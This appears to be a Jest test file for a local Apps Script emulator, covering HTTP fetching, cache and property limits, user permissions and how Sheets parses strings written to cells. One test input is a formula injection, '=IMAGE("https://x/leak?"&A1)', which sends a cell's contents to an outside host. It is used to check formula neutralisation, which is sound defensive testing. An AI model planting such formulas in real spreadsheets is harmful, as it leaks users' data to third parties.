/**
 * Proves the Apps Script stand-in's services (UrlFetchApp, CacheService, PropertiesService,
 * SpreadsheetApp, UI, HTML, Utilities) on small hand-written files (test/gas-standin/fixtures/basic),
 * against a real HTTP server running in a worker thread. Executions and the sidebar: runtime.test.ts.
 */
import http from 'node:http';
import { GasScriptError } from '../../scripts/gas-standin/runtime';
import { basicFixture } from './basic-fixture';

const fx = basicFixture();
const rt = fx.rt;

describe('UrlFetchApp', () => {
  test('fetch is synchronous real HTTP; headers, payload and content type are sent', () => {
    const r = rt();
    r.properties.user(r.owner).set('API_KEY', 'sekret-key');
    const [[code, text]] = r.custom('ECHO', fx.server.url, '/echo');
    expect(code).toBe(200);
    const echoed = JSON.parse(text);
    expect(echoed.method).toBe('POST');
    expect(echoed.body).toBe('{"hello":"world"}');
    const headers = Object.fromEntries(echoed.headers);
    expect(headers['X-Api-Key']).toBe('sekret-key');
    expect(headers['Content-Type']).toBe('application/json');
    expect(headers['User-Agent']).toMatch(/Google-Apps-Script/);
    expect(r.stats.fetchCalls).toBe(1);
    expect(r.stats.requests).toBe(1);
    expect(r.requests[0]).toMatchObject({ method: 'POST', status: 200, batch: null });
    // the key travelled in a header only: nowhere a secret must not be
    expect(r.findSecret('sekret-key')).toEqual([]);
  });

  test('fetchAll runs its requests concurrently and returns them in order', async () => {
    const r = rt();
    await fx.server.reset();
    const n = 8;
    const t0 = Date.now();
    const out = r.call('fetchMany', fx.server.url, n, 300);
    const wall = Date.now() - t0;
    expect(out.isArray).toBe(true);
    expect(out.paths).toEqual(Array.from({ length: n }, (_, i) => `/slow?ms=300&i=${i}`));
    const stats = await fx.server.stats();
    expect(stats.total).toBe(n);
    expect(stats.maxInFlight).toBe(n); // the server saw all eight at once
    expect(wall).toBeLessThan(n * 300); // far below sequential time
    expect(r.stats.fetchAllCalls).toBe(1);
    expect(r.stats.maxBatchSize).toBe(n);
    expect(r.stats.requests).toBe(n);
    expect(r.maxConcurrentRequests).toBe(n);
  });

  test('status >= 400 throws like Apps Script unless muteHttpExceptions', () => {
    const r = rt();
    const muted = r.call('fetchStatus', `${fx.server.url}/status/404`, true);
    expect(muted.code).toBe(404);
    expect(JSON.parse(muted.text).error.code).toBe('status_404');

    let err: GasScriptError | undefined;
    try {
      r.call('fetchStatus', `${fx.server.url}/status/404`, false);
    } catch (e) {
      err = e as GasScriptError;
    }
    expect(err).toBeInstanceOf(GasScriptError);
    expect(err?.gasName).toBe('Exception');
    expect(err?.message).toMatch(
      new RegExp(
        `^Request failed for http://127\\.0\\.0\\.1:${fx.server.port} returned code 404\\. Truncated server response: \\{"error".{80,}\\.\\.\\. \\(use muteHttpExceptions option to examine full response\\)$`,
      ),
    );

    const caught = r.call('fetchCatch', `${fx.server.url}/status/500?body=oops`);
    expect(caught).toEqual({
      name: 'Exception',
      message: `Request failed for http://127.0.0.1:${fx.server.port} returned code 500. Truncated server response: oops (use muteHttpExceptions option to examine full response)`,
      str: `Exception: Request failed for http://127.0.0.1:${fx.server.port} returned code 500. Truncated server response: oops (use muteHttpExceptions option to examine full response)`,
      isError: true,
    });
  });

  test('connection failure, bad URLs, redirects, gzip, header case', async () => {
    const r = rt();
    // a port nobody listens on
    const probe = http.createServer();
    await new Promise<void>((res) => probe.listen(0, '127.0.0.1', () => res()));
    const deadPort = (probe.address() as { port: number }).port;
    await new Promise((res) => probe.close(res));
    expect(r.call('fetchCatch', `http://127.0.0.1:${deadPort}/x`).message).toBe(
      `Address unavailable: http://127.0.0.1:${deadPort}/x`,
    );
    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=a b`).message).toBe(
      `Invalid argument: ${fx.server.url}/echo?q=a b`,
    );
    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=${'x'.repeat(2100)}`).message).toBe(
      'Limit Exceeded: URLFetch URL Length.',
    );

    expect(JSON.parse(r.call('fetchStatus', `${fx.server.url}/redirect?to=/echo`, false).text).path).toBe('/echo');
    expect(JSON.parse(r.call('fetchStatus', `${fx.server.url}/gzip`, false).text)).toEqual({ zipped: true });

    const h = r.call('fetchHeaders', `${fx.server.url}/headers`);
    expect(h.headers['X-Request-Id']).toBe('req-123'); // original case, as Apps Script reports it
    expect(h.headers['x-request-id']).toBeUndefined();
    expect(h.headers['Content-Type']).toBe('text/plain');
    expect(h.all['Set-Cookie']).toEqual(['a=1', 'b=2']);
    expect(h.blobType).toBe('text/plain');
  });

  test('a server on the calling thread is reported, not deadlocked', async () => {
    const r = rt();
    const same = http.createServer((_q, s) => s.end('never'));
    await new Promise<void>((res) => same.listen(0, '127.0.0.1', () => res()));
    try {
      const port = (same.address() as { port: number }).port;
      expect(r.call('fetchCatch', `http://127.0.0.1:${port}/`).message).toMatch(/same thread/);
    } finally {
      await new Promise((res) => same.close(res));
    }
  });

  test('manifest scopes are enforced', () => {
    const r = rt({ manifest: { oauthScopes: ['https://www.googleapis.com/auth/spreadsheets.currentonly'] } });
    expect(r.call('fetchCatch', `${fx.server.url}/echo`).message).toBe(
      'You do not have permission to call UrlFetchApp.fetch. Required permissions: https://www.googleapis.com/auth/script.external_request',
    );
  });

  test('rewriteUrl sends production URLs to the local server', () => {
    const r = rt({ rewriteUrl: (u) => u.replace('https://api.example.com', fx.server.url) });
    const out = r.call('fetchStatus', 'https://api.example.com/echo', false);
    expect(JSON.parse(out.text).path).toBe('/echo');
    expect(r.requests[0].requestedUrl).toBe('https://api.example.com/echo');
  });
});

describe('CacheService', () => {
  test('limits throw with Apps Script messages; values become strings', () => {
    const r = rt();
    expect(r.call('tryCache', 'k'.repeat(250), 'v')).toBe('ok');
    expect(r.call('tryCache', 'k'.repeat(251), 'v')).toBe('Exception: Argument too large: key');
    expect(r.call('tryCache', 'big', 'x'.repeat(100 * 1024))).toBe('ok');
    expect(r.call('tryCache', 'big2', 'x'.repeat(100 * 1024 + 1))).toBe('Exception: Argument too large: value');
    expect(r.call('tryCache', 'ttl', 'v', 21600)).toBe('ok');
    expect(r.call('tryCache', 'ttl2', 'v', 21601)).toBe('Exception: Argument too large: expirationInSeconds');
    r.call('cachePut', 'num', 42);
    expect(r.caches.script.peek('num')).toBe('42');
  });

  test('TTL is honoured against the controllable clock (default 600 s)', () => {
    const r = rt();
    r.call('cachePut', 'a', 'A', 60);
    r.call('cachePut', 'b', 'B'); // default 600 s
    r.clock.advance(59_000);
    expect(r.call('cacheGet', 'a')).toBe('A');
    r.clock.advance(2_000);
    expect(r.call('cacheGet', 'a')).toBeNull();
    expect(r.call('cacheGet', 'b')).toBe('B');
    r.clock.advance(540_000);
    expect(r.call('cacheGet', 'b')).toBeNull();
  });

  test('about 1,000 items: the oldest tenth is evicted when full', () => {
    const r = rt();
    r.evaluate("for (var i = 0; i < 1000; i++) CacheService.getScriptCache().put('k' + i, 'v')");
    expect(r.caches.script.size).toBe(1000);
    r.call('cachePut', 'one-more', 'v');
    expect(r.caches.script.size).toBe(901);
    expect(r.caches.script.peek('k0')).toBeNull();
    expect(r.caches.script.peek('k99')).toBeNull();
    expect(r.caches.script.peek('k100')).toBe('v');
    expect(r.stats.cacheEvictions).toBe(100);
  });
});

describe('PropertiesService', () => {
  test('9 KB per value and 500 KB per store', () => {
    const r = rt();
    expect(r.call('tryProp', 'a', 'x'.repeat(9 * 1024))).toBe('ok');
    expect(r.call('tryProp', 'b', 'x'.repeat(9 * 1024 + 1))).toBe('Exception: Argument too large: value');
    for (let i = 0; r.properties.script.bytes() < 500 * 1024 - 9 * 1024; i++)
      r.properties.script.set(`fill${i}`, 'x'.repeat(9000));
    expect(r.call('tryProp', 'last', 'x'.repeat(9 * 1024))).toBe(
      'Exception: You have exceeded the property storage quota. Please remove some properties and try again.',
    );
  });

  test("user properties are per user; a custom function reads the owner's and cannot write", () => {
    const r = rt({ owner: 'owner@x.com' });
    r.call('propSet', 'user', 'API_KEY', 'owner-key');
    r.setActiveUser('editor@x.com');
    expect(r.call('propGet', 'user', 'API_KEY')).toBeNull();
    r.call('propSet', 'user', 'API_KEY', 'editor-key');
    expect(r.properties.user('editor@x.com').get('API_KEY')).toBe('editor-key');
    // custom function executed while the editor is at the keyboard: reads the owner's store (Google documents none:
    // custom functions run as an anonymous user), and such reads are counted for the product's tests
    expect(r.stats.customUserPropertyReads).toBe(0);
    expect(r.run('propGet', ['user', 'API_KEY'], { kind: 'custom' })).toBe('owner-key');
    expect(r.stats.customUserPropertyReads).toBe(1);
    // document properties are one store for everyone, custom functions included (read-only there)
    r.call('propSet', 'doc', 'SHARED', 'for-all');
    expect(r.run('propGet', ['doc', 'SHARED'], { kind: 'custom' })).toBe('for-all');
    expect(r.run('propGet', ['doc', 'SHARED'], { kind: 'script', user: 'owner@x.com' })).toBe('for-all');
    expect(r.stats.customUserPropertyReads).toBe(1);
    expect(r.custom('trySetProp')).toBe('Exception: You do not have permission to call setProperty');
    expect(r.custom('tryUi')).toBe('Exception: You do not have permission to call SpreadsheetApp.getUi');
    expect(r.custom('whoAmI')).toBe('');
    expect(r.call('whoAmI')).toBe('editor@x.com');
  });
});

test('ScriptApp.getInstallationSource: NONE for a script bound to the sheet (default), the add-on source otherwise; the temporary user key is per user', () => {
  expect(rt().call('installedFrom')).toEqual(['NONE', true]);
  expect(rt({ installationSource: 'WEB_STORE_ADD_ON' }).call('installedFrom')).toEqual(['WEB_STORE_ADD_ON', false]);
  const r = rt({ owner: 'owner@x.com' });
  const owners = r.call('userKey');
  expect(owners).toMatch(/^[\w-]{20,}$/);
  expect(r.run('userKey', [], { kind: 'script', user: 'owner@x.com' })).toBe(owners);
  expect(r.run('userKey', [], { kind: 'script', user: 'editor@x.com' })).not.toBe(owners);
});

describe('spreadsheet, UI, HTML, utilities', () => {
  test('active range, values, writes, custom functions are read-only', () => {
    const r = rt();
    const sheet = r.spreadsheet.addSheet('Data');
    sheet.setValues('A1', [['handle'], ['nasa'], ['esa']]);
    r.spreadsheet.select('Data!A2:A3');
    expect(r.call('selectionInfo')).toEqual({ a1: 'A2:A3', sheet: 'Data', values: [['nasa'], ['esa']], rows: 2 });
    expect(
      r.call('writeCells', 'Data!B1:C2', [
        [1, 2],
        [3, new Date(0)],
      ]),
    ).toBe(3);
    expect(sheet.getValues('B1:C2')).toEqual([
      [1, 2],
      [3, new Date(0)],
    ]);
    expect(() => r.call('writeCells', 'Data!B1:C2', [[1]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => r.custom('writeCells', 'Data!B1', [[1]])).toThrow('You do not have permission to call setValues');
    // a custom function's active range is its own cell
    expect(r.run('selectionInfo', [], { kind: 'custom', cell: 'Data!A3' }).values).toEqual([['esa']]);
  });

  test('conditional format rules: a background for cells showing a text, kept by the sheet; custom functions cannot set them', () => {
    const r = rt();
    const sheet = r.spreadsheet.addSheet('Card');
    expect(r.call('colorWhen', 'Card!B2:B9', 'pass', '#b7e1cd')).toBe(1);
    expect(r.call('colorWhen', 'Card!B2:B9', 'fail', '#f4c7c3')).toBe(2);
    expect(sheet.colorRules).toEqual([
      { text: 'pass', background: '#b7e1cd', ranges: [{ row: 2, col: 2, numRows: 8, numCols: 1 }] },
      { text: 'fail', background: '#f4c7c3', ranges: [{ row: 2, col: 2, numRows: 8, numCols: 1 }] },
    ]);
    expect(() => r.custom('colorWhen', 'Card!B2', 'x', '#fff')).toThrow(
      'You do not have permission to call Sheet.setConditionalFormatRules',
    );
  });

  test("column widths: kept by the sheet for the preview, Sheets' default 100 px otherwise; out of the sheet is refused", () => {
    const r = rt();
    const sheet = r.spreadsheet.addSheet('Report');
    expect(r.call('columnWidths', 'Report', 1, 1, 240)).toEqual([240, 100]);
    expect(r.call('columnWidths', 'Report', 2, 4, 150)).toEqual([150, 100]);
    expect(Object.fromEntries(sheet.columnWidths)).toEqual({ 1: 240, 2: 150, 3: 150, 4: 150, 5: 150 });
    expect(() => r.call('columnWidths', 'Report', 25, 3, 150)).toThrow('Invalid argument: numColumns');
    expect(() => r.custom('columnWidths', 'Report', 1, 1, 90)).toThrow(
      'You do not have permission to call setColumnWidths',
    );
  });

  test('strings written by a script are parsed as Sheets parses typed input, unless quoted or in a plain-text cell', () => {
    const r = rt({ timeZone: 'America/New_York' });
    const sheet = r.spreadsheet.addSheet('Data');
    const typed = [
      '=IMAGE("https://x/leak?"&A1)',
      '0012345',
      '+15551234567',
      '12%',
      'TRUE',
      'false',
      '2026-01-05',
      '1/5/2026 10:30',
      '@x',
      "'x",
      "''x",
      '17841405793187218',
      '1,234.5',
      '-3',
      'nasa',
      '=',
      '',
    ];
    r.call('writeCells', 'Data!A1:Q1', [typed]);
    const local = (y: number, mo: number, d: number, h = 0, mi = 0) => new Date(Date.UTC(y, mo - 1, d, h + 5, mi)); // EST is UTC-5
    expect(sheet.getValues('A1:Q1')[0]).toEqual([
      '',
      12345,
      15551234567,
      0.12,
      true,
      false,
      local(2026, 1, 5),
      local(2026, 1, 5, 10, 30),
      '@x',
      'x',
      "'x",
      17841405793187218,
      1234.5,
      -3,
      'nasa',
      '=',
      '',
    ]);
    expect(sheet.formulas.get('1,1')).toBe('=IMAGE("https://x/leak?"&A1)');
    // The quote prefix keeps every one as the string after it; appendRow parses the same way.
    r.call('writeCells', 'Data!A2:Q2', [typed.map((t) => (t === '' ? '' : `'${t}`))]);
    expect(sheet.getValues('A2:Q2')[0]).toEqual(typed);
    r.call('appendCells', 'Data', ['0012345', "'0012345", 7, true]);
    expect(sheet.getValues('A3:D3')[0]).toEqual([12345, '0012345', 7, true]);
    expect(sheet.formulas.size).toBe(1);
    // A plain-text cell takes the string as it is, apostrophe included (README: our model); numbers stay numbers.
    expect(r.call('formatCells', 'Data!A4:C4', '@')).toEqual([['@', '@', '@']]);
    r.call('writeCells', 'Data!A4:C4', [['=1+1', "'x", 5]]);
    expect(sheet.getValues('A4:C4')[0]).toEqual(['=1+1', "'x", 5]);
    expect(sheet.formulas.size).toBe(1);
  });

  test('menus, sidebar, templates, utilities', () => {
    const r = rt({ addonName: 'IG Data' });
    expect(r.trigger('onOpen', { authMode: 'NONE' })).toBe('NONE');
    expect(r.ui.menu('IG Data')?.items).toEqual([
      { type: 'item', caption: 'Open sidebar', functionName: 'showSidebar' },
      { type: 'separator' },
      { type: 'item', caption: 'Refresh', functionName: 'refresh' },
    ]);
    r.call('showSidebar');
    expect(r.ui.lastSidebar?.title).toBe('Test sidebar');
    expect(r.ui.lastSidebar?.content).toContain('google.script.run');
    expect(r.call('template')).toBe('<p>Hello &lt;b&gt;Ann&lt;/b&gt; / <b>Ann</b></p>\n<i>0</i><i>1</i>\n');
    expect(r.call('utils')).toEqual({
      digest: [-70, 120, 22, -65],
      b64: 'aMOpbGxv',
      back: 'héllo',
      uuid: 36,
      date: '2024-01-01T22:04:05-05:00 Mon',
    });
  });
});
